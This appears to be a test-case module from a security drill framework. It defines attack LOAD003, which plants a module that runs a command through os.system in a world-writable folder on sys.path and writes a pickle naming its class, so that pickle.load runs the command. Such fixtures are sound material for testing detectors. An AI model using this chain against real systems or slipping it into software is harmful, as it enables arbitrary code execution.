"""A pickle that only names a class; its module was dropped where Python looks."""

from __future__ import annotations

from pathlib import Path

from veristep.drill.attack import Attack
from veristep.drill.load import payload


def _plant(folder: Path) -> Path:
    shared = folder / "shared"
    shared.mkdir()
    code = f"import os\nos.system({payload.COMMAND!r})\nclass Config(dict): ...\n"
    (shared / "team_utils_cfg.py").write_text(code, encoding="utf-8")
    shared.chmod(0o777)
    path = folder / "config.pkl"
    path.write_bytes(b"\x80\x02cteam_utils_cfg\nConfig\n)\x81.")
    head = f"import pickle\nsys.path.append({str(shared)!r})"
    return payload.script(folder, path, "with open(path, 'rb') as file:\n    pickle.load(file)", head)


ATTACK = Attack(
    "names a class of a dropped file",
    "a file in a shared folder on the path runs when a pickle names a class of it",
    "LOAD003",
    _plant,
    incident=(8,),
)
